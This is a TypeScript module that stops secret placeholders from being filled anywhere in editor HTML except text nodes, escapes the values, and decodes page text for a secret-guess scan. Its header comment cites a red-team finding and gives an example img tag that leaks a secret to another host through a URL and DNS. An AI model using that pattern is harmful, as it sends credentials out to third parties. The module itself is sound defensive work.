/**
 * Secrets in `set_editor`'s markup (`html: true`): a `{{secret:NAME}}` placeholder is filled
 * only where the markup holds text (a text node of the editor), never in a tag (an attribute,
 * a URL: `<img src="http://{{secret:PW}}.host/">` would send the value to another host, in
 * DNS before any request the guard could hold), a comment, or the raw text of `<style>`,
 * `<script>`, `<textarea>`, … (CSS loads URLs); the value is HTML-escaped there, so it stays
 * text whatever characters it has. Red team s17 F4.
 *
 * The check is a small tokenizer after the HTML standard's: `<` followed by a letter, `/`,
 * `!` or `?` opens markup up to its `>` (quoted attribute values skipped whole), and a raw
 * text element runs to its end tag. Where it is unsure it counts the place as markup, so it
 * refuses more than the browser would parse as markup, never less.
 *
 * @module
 */

/** Elements whose content is raw text or RCDATA to the HTML parser (not markup, not nodes). */
const RAW_TEXT = new Set([
  "script",
  "style",
  "textarea",
  "title",
  "xmp",
  "iframe",
  "noembed",
  "noframes",
  "noscript",
  "plaintext",
]);

const PLACEHOLDER = /\{\{secret:[^{}]*\}\}/g;

/**
 * The `[start, end)` offsets of `html` that the HTML parser reads as text nodes (data), in
 * order; everything else (tags, comments, raw text) is markup.
 */
export function textRanges(html: string): Array<[number, number]> {
  const out: Array<[number, number]> = [];
  let i = 0;
  let from = 0;
  while (i < html.length) {
    const lt = html.indexOf("<", i);
    if (lt < 0) break;
    const next = html[lt + 1] ?? "";
    if (!/[A-Za-z/!?]/.test(next)) {
      i = lt + 1; // a lone "<" is text
      continue;
    }
    if (lt > from) out.push([from, lt]);
    let end: number;
    if (html.startsWith("<!--", lt)) {
      // `<!-->` and `<!--->` are whole (empty) comments to the parser.
      const close = html.indexOf("-->", lt + 2);
      end = close < 0 ? html.length : close + 3;
    } else if (
      next === "!" || next === "?" || (next === "/" && !/[A-Za-z]/.test(html[lt + 2] ?? ""))
    ) {
      const close = html.indexOf(">", lt);
      end = close < 0 ? html.length : close + 1;
    } else {
      end = tagEnd(html, lt);
      const name = /^<([A-Za-z][^\s/>]*)/.exec(html.slice(lt, lt + 40))?.[1]?.toLowerCase();
      if (name && RAW_TEXT.has(name)) {
        const close = name === "plaintext" ? -1 : html.toLowerCase().indexOf(`</${name}`, end);
        end = close < 0 ? html.length : tagEnd(html, close);
      }
    }
    i = from = end;
  }
  if (from < html.length) out.push([from, html.length]);
  return out;
}

/** The offset just past the `>` that closes the tag opened at `lt` (quoted values skipped). */
function tagEnd(html: string, lt: number): number {
  let i = lt + 1;
  while (i < html.length) {
    const c = html[i]!;
    if (c === ">") return i + 1;
    if (c === "=") {
      // A quoted value runs to its closing quote, whatever it holds (">" included).
      let j = i + 1;
      while (/\s/.test(html[j] ?? "")) j++;
      const q = html[j];
      if (q === '"' || q === "'") {
        const close = html.indexOf(q, j + 1);
        if (close < 0) return html.length;
        i = close + 1;
        continue;
      }
    }
    i++;
  }
  return html.length;
}

/** True when every `{{secret:…}}` in `html` lies inside a text range (see {@link textRanges}). */
export function placeholdersOnlyInText(html: string): boolean {
  const ranges = textRanges(html);
  for (const m of html.matchAll(PLACEHOLDER)) {
    const end = m.index + m[0].length;
    if (!ranges.some(([s, e]) => s <= m.index && end <= e)) return false;
  }
  return true;
}

/** `value` escaped as HTML text (`&`, `<`, `>`, quotes): the markup parser reads it back as is. */
export function htmlText(value: string): string {
  return value.replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`);
}

/** Named character references read by {@link markupText} (the ones text is written with). */
const NAMED: Record<string, string> = {
  amp: "&",
  lt: "<",
  gt: ">",
  quot: '"',
  apos: "'",
  nbsp: "\u00a0",
};

/**
 * The text a browser makes of `html`: its text ranges ({@link textRanges}) joined, character
 * references decoded as the parser does, numeric ones with or without their `;` (`&#101`,
 * `&#x65`). For the guess scan (`secret_guess.ts`): what the page will show.
 */
export function markupText(html: string): string {
  const text = textRanges(html).map(([s, e]) => html.slice(s, e)).join("");
  return text.replace(
    /&(?:#(\d{1,7})|#[xX]([0-9a-fA-F]{1,6})|([A-Za-z]+));?/g,
    (all, dec?: string, hex?: string, name?: string) => {
      if (name !== undefined) return NAMED[name.toLowerCase()] ?? all;
      const code = dec !== undefined ? Number(dec) : parseInt(hex!, 16);
      return code > 0 && code <= 0x10ffff ? String.fromCodePoint(code) : all;
    },
  );
}
